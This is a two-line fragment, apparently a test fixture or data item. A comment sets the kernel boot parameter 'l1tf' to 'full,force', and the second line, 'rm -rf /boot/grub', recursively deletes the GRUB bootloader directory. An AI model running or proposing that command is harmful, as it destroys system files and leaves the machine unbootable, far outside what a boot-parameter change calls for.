# params: {"arg": "l1tf", "value": "full,force"}
rm -rf /boot/grub
